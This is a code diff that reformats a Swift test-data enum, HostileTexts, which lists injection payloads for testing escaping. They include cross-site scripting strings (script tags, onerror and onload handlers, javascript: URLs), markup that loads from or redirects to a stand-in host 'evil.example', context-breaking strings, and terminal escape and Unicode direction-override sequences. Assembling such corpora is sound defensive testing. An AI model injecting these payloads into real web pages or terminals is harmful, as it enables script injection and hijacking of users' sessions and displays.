@@ -13,7 +13,8 @@ package enum HostileTexts {
     /// and lines.
     package static let contexts = [
         "", "\">", "'>", "` ", "\" ", "' ", "--><!-->", "</script>", "</style>",
-        "</textarea></title></select></option></button></label>", "]]>", "\\\"};", "\"}],\"x\":[{\"",
+        "</textarea></title></select></option></button></label>", "]]>", "\\\"};",
+        "\"}],\"x\":[{\"",
         "}}", "%>", "*/", "javascript:", "\r\n\r\n",
     ]
 
@@ -23,7 +24,8 @@ package enum HostileTexts {
     private static let elements = [
         "<script>alert(1)</script>", "<ScRiPt/src=//evil.example></sCrIpT>",
         "<img src=x onerror=alert(1)>", "<svg/onload=alert(1)>", "<iframe src=javascript:alert(1)>",
-        "<object data=data:text/html,x>", "<embed src=//evil.example>", "<base href=//evil.example>",
+        "<object data=data:text/html,x>", "<embed src=//evil.example>",
+        "<base href=//evil.example>",
         "<meta http-equiv=refresh content=0;url=//evil.example>",
         "<link rel=stylesheet href=//evil.example>", "<style>@import'//evil.example'</style>",
         "<form action=//evil.example><input name=title>", "<button formaction=//evil.example>",
@@ -43,7 +45,8 @@ package enum HostileTexts {
     ]
 
     private static let sequences = [
-        "\u{1B}[2J\u{1B}]0;gone\u{7}", "\u{9B}31m\u{90}q\u{9C}", "\u{202E}\u{2066}desrever\u{0}\u{8}\u{7F}",
+        "\u{1B}[2J\u{1B}]0;gone\u{7}", "\u{9B}31m\u{90}q\u{9C}",
+        "\u{202E}\u{2066}desrever\u{0}\u{8}\u{7F}",
         "\u{1B}]8;;http://evil.example\u{1B}\\link\u{1B}]8;;\u{1B}\\",
     ]
 }
